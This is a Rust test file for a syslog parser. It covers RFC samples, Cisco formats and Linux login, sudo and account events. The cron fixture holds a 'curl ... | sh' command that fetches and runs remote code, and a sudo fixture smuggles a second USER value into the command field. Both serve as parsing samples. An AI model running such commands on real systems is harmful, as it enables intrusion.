//! Syslog in its shapes, and what Linux's programs say. Samples of the RFCs are marked; others are written after the
//! programs' sources and vendors' documents, since the shared data has few.

use super::*;
use crate::text::trial::{all, resumes};
use event::Event;
use proptest::prelude::*;

fn one(line: &str) -> Event {
    let (mut events, skipped) = all(read, line.as_bytes());
    assert_eq!((events.len(), skipped.len()), (1, 0), "{line}: {skipped:?}");
    events.remove(0)
}

/// The values under these names; absent ones are empty.
fn values(event: &Event, names: &[&str]) -> Vec<String> {
    names.iter().map(|n| event.text(n).unwrap_or_default().into_owned()).collect()
}

const PARTS: &[&str] = &["host.hostname", "process.name", "process.pid", "message"];

#[test]
fn the_examples_of_rfc_5424() {
    // Section 6.5.
    let event = one(
        "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 8710 ID47 [exampleSDID@32473 iut=\"3\" \
         eventSource=\"Appli\\]\\\"c\\\\at\\ion\" eventID=\"1011\"][examplePriority@32473 class=\"high\"] \u{feff}An entry",
    );
    assert_eq!(
        event.fields_json(),
        "{\"log.syslog.priority\":165,\"log.syslog.facility.code\":20,\"log.syslog.facility.name\":\"local4\",\
         \"log.syslog.severity.code\":5,\"log.syslog.severity.name\":\"notice\",\"log.level\":\"notice\",\
         \"log.syslog.version\":1,\"host.hostname\":\"mymachine.example.com\",\"process.name\":\"evntslog\",\
         \"process.pid\":8710,\"log.syslog.msgid\":\"ID47\",\"log.syslog.timestamp\":\"2003-10-11T22:14:15.003Z\",\
         \"log.syslog.structured_data.exampleSDID@32473.iut\":\"3\",\
         \"log.syslog.structured_data.exampleSDID@32473.eventSource\":\"Appli]\\\"c\\\\at\\\\ion\",\
         \"log.syslog.structured_data.exampleSDID@32473.eventID\":\"1011\",\
         \"log.syslog.structured_data.examplePriority@32473.class\":\"high\",\"message\":\"An entry\"}"
    );
    assert_eq!(event.time, Nanos(1_065_910_455_003_000_000));
    assert_eq!(&*event.dataset, "linux.syslog");
    let event = one(
        "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \u{feff}'su root' failed for lonvick on /dev/pts/8",
    );
    assert_eq!(
        values(&event, &["user.name", "user.effective.name", "event.outcome"]),
        ["lonvick", "root", "failure"]
    );
    assert_eq!(&*event.dataset, "linux.auth");
    let event = one("<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc x8710 - - %% It's time");
    assert_eq!(
        values(&event, &["host.ip", "log.syslog.procid", "message"]),
        ["192.0.2.1", "x8710", "%% It's time"]
    );
    assert_eq!(event.time, Nanos(1_061_727_255_000_003_000));
    let event = one("<165>1 2003-10-11T22:14:15.003Z h p - ID47 [a@1 b=\"c\"]");
    assert_eq!(event.text("message"), None);
    let event = one("<1>12 - mymachine - - ID47 - asd");
    assert!(event.get("time_missing").is_some());
}

#[test]
fn data_that_is_none_is_said_and_kept() {
    for (rest, message) in
        [("[a b=\"c] x", "[a b=\"c] x"), ("no data", "no data"), ("[a b=\"c\"][", "["), ("-x", "-x")]
    {
        let line = format!("<1>1 2003-10-11T22:14:15Z h p - - {rest}");
        let (events, skipped) = all(read, line.as_bytes());
        assert_eq!((events.len(), skipped.len()), (1, 1), "{line}");
        assert_eq!(values(&events[0], &["message", "host.hostname"]), [message, "h"], "{line}");
        assert!(events[0].text("parse_error").unwrap().contains("structured data"));
    }
    let many: String = (0..2000).map(|n| format!(" p{n}=\"\"")).collect();
    let (events, _) = all(read, format!("<1>1 2003-10-11T22:14:15Z h p - - [a{many}]").as_bytes());
    assert!(events[0].fields.len() < 1100 && events[0].get("parse_error").is_some());
}

#[test]
fn the_older_kind_in_its_shapes() {
    for (line, want) in [
        // RFC 3164, section 5.4.
        (
            "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
            ["mymachine", "su", "", "'su root' failed for lonvick on /dev/pts/8"],
        ),
        ("<13>Feb  5 17:32:18 10.0.0.99 Use the BFG!", ["10.0.0.99", "", "", "Use the BFG!"]),
        ("Mar  8 00:22:57 avas dccifd[9933]: Broken", ["avas", "dccifd", "9933", "Broken"]),
        ("Mar  8 15:18:40 avas: last message", ["avas", "", "", "last message"]),
        ("Mar  8 15:18:40 sshd[12]: bye", ["", "sshd", "12", "bye"]),
        (
            "Mar  8 2024 15:18:40 h.example.com postfix/smtpd[1]: x: y",
            ["h.example.com", "postfix/smtpd", "1", "x: y"],
        ),
        // rsyslog's RSYSLOG_FileFormat and journalctl's short-iso.
        ("2024-03-07T04:02:16.123456+01:00 h kernel: [ 1.5] x", ["h", "kernel", "", "[ 1.5] x"]),
        ("2024-03-07T04:02:16+0100 h systemd[1]: Started x.", ["h", "systemd", "1", "Started x."]),
        ("<30>Mar  8 15:18:40 2001:db8::1 dhcpd: x", ["2001:db8::1", "dhcpd", "", "x"]),
        ("<30>Mar  8 15:18:40 2001:db8:: dhcpd: x", ["2001:db8::", "dhcpd", "", "x"]),
        ("Mar  8 15:18:40 h sshd(pam_unix)[5]: x", ["h", "sshd(pam_unix)", "5", "x"]),
        ("Mar  8 15:18:40 mac launchd[1] (com.apple.x[22]): Exited", ["mac", "launchd", "1", "Exited"]),
        ("Mar  8 15:18:40 h http://x/ [a]", ["h", "", "", "http://x/ [a]"]),
        ("Mar  8 15:18:40 h", ["h", "", "", ""]),
        ("Mar  8 15:18:40", ["", "", "", ""]),
        // Cisco, "Cisco Secure Firewall ASA Series Syslog Messages" and IOS's "System Message Logging".
        (
            "<166>Mar 12 2024 10:00:00: %ASA-6-302013: Built inbound TCP",
            ["", "", "", "%ASA-6-302013: Built inbound TCP"],
        ),
        ("<166>Mar 12 2024 10:00:00 fw1 : %ASA-6-302013: Built", ["fw1", "", "", "%ASA-6-302013: Built"]),
        (
            "<189>29: r1: *Mar  1 18:46:11.123 UTC: %SYS-5-CONFIG_I: Configured",
            ["r1", "", "", "%SYS-5-CONFIG_I: Configured"],
        ),
    ] {
        let event = one(line);
        assert_eq!(values(&event, PARTS), want, "{line}");
        assert!(event.get("time_missing").is_none(), "{line}");
    }
    let event = one("<166>Mar 12 2024 10:00:00: %ASA-4-106023: Deny tcp");
    assert_eq!(
        (&*event.dataset, event.text("event.code").as_deref(), event.text("log.level").as_deref()),
        ("cisco.asa", Some("106023"), Some("informational"))
    );
    assert_eq!(&*one("Mar  1 18:46:11: %SYS-5-CONFIG_I: x").dataset, "cisco.ios");
}

#[test]
fn what_is_no_syslog_is_kept_whole() {
    for line in [
        "<3444>Oct 11 22:14:15 h su: x",
        "<7>unparsable line",
        "<190)1 2003-10-11T22:14:15Z h p - - - x",
        "é",
        "<",
        "<13>",
    ] {
        let (events, skipped) = all(read, line.as_bytes());
        assert_eq!((events.len(), skipped.len()), (1, 1), "{line}");
        assert_eq!(events[0].text("message").as_deref(), Some(line));
        assert!(events[0].get("parse_error").is_some());
    }
}

#[test]
fn a_turn_of_the_year_lies_inside() {
    // The trial's source is of 2023-11-14.
    let text =
        "Dec 31 23:59:59 h a: x\nJan  1 00:00:01 h a: x\nNov 15 00:00:00 h a: x\nNov 16 00:00:00 h a: x\n";
    let (events, _) = all(read, text.as_bytes());
    let years: Vec<_> = events
        .iter()
        .map(|e| jiff::Timestamp::from_nanosecond(e.time.0.into()).unwrap().to_string()[..4].to_owned())
        .collect();
    assert_eq!(years, ["2022", "2023", "2023", "2022"]);
    assert!(events.iter().all(|e| e.get("year_guessed") == Some(&Value::Bool(true))));
    assert!(one("2024-03-07T04:02:16Z h a: x").get("year_guessed").is_none());
}

#[test]
fn frames_are_records_and_lines_resume() {
    let text = "50 <34>1 2003-10-11T22:14:15Z h su - - - line 1\nline266 <34>1 2003-10-11T22:14:15Z h su - - - and this is a longer message\nMar  8 15:18:40 h a: x\n\nbad\n";
    let (events, _) = all(read, text.as_bytes());
    let messages: Vec<_> = events.iter().map(|e| e.text("message").unwrap().into_owned()).collect();
    assert_eq!(messages.len(), 4, "{messages:?}");
    assert_eq!(messages[0], "line 1\nline2");
    assert_eq!(&text[events[1].place.offset as usize..][..4], "<34>");
    resumes(read, text.as_bytes());
    assert!(is(text.as_bytes()));
}

#[test]
fn facts_of_logins_and_accounts() {
    const NAMES: &[&str] = &["event.action", "event.outcome", "user.name", "source.ip", "source.port"];
    for (rest, want) in [
        (
            "sshd[1]: Accepted publickey for bob from 10.0.0.9 port 50112 ssh2: RSA SHA256:abc",
            ["ssh_login", "success", "bob", "10.0.0.9", "50112"],
        ),
        (
            "sshd[1]: Failed password for invalid user a from 1.1.1.1 port 2 from 2001:db8::1 port 50112 ssh2",
            ["ssh_login", "failure", "a from 1.1.1.1 port 2", "2001:db8::1", "50112"],
        ),
        (
            "sshd-session[1]: Invalid user  from 10.0.0.9 port 5",
            ["ssh_login", "failure", "", "10.0.0.9", "5"],
        ),
        ("sshd[1]: Invalid user bob from 10.0.0.9", ["ssh_login", "failure", "bob", "10.0.0.9", ""]),
        (
            "sshd[1]: error: maximum authentication attempts exceeded for root from 10.0.0.9 port 5 ssh2 [preauth]",
            ["ssh_login", "failure", "root", "10.0.0.9", "5"],
        ),
        (
            "sshd[1]: User root from 10.0.0.9 not allowed because not listed in AllowUsers",
            ["ssh_login", "failure", "root", "10.0.0.9", ""],
        ),
        (
            "sshd[1]: Connection closed by authenticating user root 10.0.0.9 port 5 [preauth]",
            ["ssh_connection_closed", "", "root", "10.0.0.9", "5"],
        ),
        (
            "sshd[1]: Received disconnect from 10.0.0.9 port 5:11: Bye [preauth]",
            ["ssh_disconnected", "", "", "10.0.0.9", "5"],
        ),
        (
            "sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.0.0.9  user=root",
            ["authentication-failed", "failure", "root", "10.0.0.9", ""],
        ),
        (
            "sshd[1]: reverse mapping checking getaddrinfo for a.b [10.0.0.9] failed - POSSIBLE BREAK-IN ATTEMPT!",
            ["ssh_scan", "", "", "10.0.0.9", ""],
        ),
        (
            "CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            ["session-opened", "success", "root", "", ""],
        ),
        (
            "sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls -l",
            ["sudo-command", "success", "bob", "", ""],
        ),
        (
            "sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
            ["sudo-command", "failure", "bob", "", ""],
        ),
        ("su[1]: (to root) bob on pts/0", ["su", "success", "bob", "", ""]),
        ("su[1]: FAILED su for root by bob", ["su", "failure", "bob", "", ""]),
        ("su[1]: - /dev/pts/1 bob:root", ["su", "failure", "bob", "", ""]),
        (
            "login[1]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure",
            ["login", "failure", "root", "", ""],
        ),
        ("systemd-logind[1]: New session 5 of user bob.", ["session-started", "success", "bob", "", ""]),
        (
            "useradd[1]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh, from=none",
            ["added-user-account", "success", "toor", "", ""],
        ),
        ("usermod[1]: add 'bob' to shadow group 'sudo'", ["added-member", "success", "bob", "", ""]),
        (
            "passwd[1]: pam_unix(passwd:chauthtok): password changed for bob",
            ["password-changed", "success", "bob", "", ""],
        ),
    ] {
        let event = one(&format!("Mar  8 15:18:40 web1 {rest}"));
        assert_eq!(values(&event, NAMES), want, "{rest}");
        assert_eq!(&*event.dataset, "linux.auth", "{rest}");
        assert_eq!(event.text("message").as_deref(), rest.split_once(": ").map(|(_, m)| m), "{rest}");
    }
    let event = one("Mar  8 15:18:40 web1 CRON[1]: (root) CMD (curl -s http://203.0.113.9/a | sh)");
    assert_eq!(&*event.dataset, "linux.syslog");
    assert_eq!(
        values(&event, &["user.name", "system.cron.command"]),
        ["root", "curl -s http://203.0.113.9/a | sh"]
    );
    let event = one(
        "Mar  8 15:18:40 web1 sudo: bob : TTY=pts/0 ; PWD=/x ; USER=root ; COMMAND=/bin/sh -c a ; USER=eve",
    );
    assert_eq!(
        values(&event, &["user.effective.name", "system.auth.sudo.command", "system.auth.sudo.pwd"]),
        ["root", "/bin/sh -c a ; USER=eve", "/x"]
    );
}

#[test]
fn sure_syslog_is_told_from_other_logs() {
    for (text, want) in [
        ("<34>Oct 11 22:14:15 h su: x\n", true),
        ("Oct 11 22:14:15 h su: x\nbroken\n", true),
        ("2024-03-07T04:02:16Z h prog[1]: x\n", true),
        ("2024-03-07T04:02:16Z INFO main: x\n", false),
        ("2024-03-07 04:02:16 h prog: x\n", false),
        ("07-Mar-2024 04:02:16.123 queries: info: x\n", false),
        ("2024/03/07 04:02:16 [error] 1#0: x\n", false),
        ("name,time\na,2024-03-07T04:02:16Z\n", false),
    ] {
        assert_eq!(is(text.as_bytes()), want, "{text}");
    }
}

proptest! {
    #[test]
    fn any_text_is_taken(
        text in "(.|\n){0,200}",
        line in "(<[0-9]{1,3}>|1 |2003-10-11T22:14:15Z |Mar  8 15:18:40 |h |su: |sshd\\[1\\]: |- |\\[a b=\"|\"\\]|%ASA-1-2: |CEF:0\\||LEEF:2.0\\||\\||=|é| from | for |Accepted |Invalid user |sudo: | : |COMMAND=|pam_unix\\(a:b\\): |session opened for user |user=|\\(|\\)){0,24}",
    ) {
        for text in [&text, &line] {
            let (events, _) = all(read, text.as_bytes());
            for event in &events {
                let mut names: Vec<_> = event.fields.iter().map(|(n, _)| n).collect();
                names.sort();
                names.dedup();
                prop_assert_eq!(names.len(), event.fields.len());
            }
        }
        prop_assert!(all(read, line.as_bytes()).0.len() <= 1);
    }

    #[test]
    fn each_line_is_an_event(lines in prop::collection::vec("[^\n\r0-9 ][^\n\r]{0,80}[^\n\r ]", 0..12)) {
        let text = lines.join("\n");
        let text = text.trim_start_matches('\u{feff}');
        let count = text.split('\n').filter(|l| !l.as_bytes().trim_ascii().is_empty()).count();
        prop_assert_eq!(all(read, text.as_bytes()).0.len(), count);
        resumes(read, text.as_bytes());
    }
}
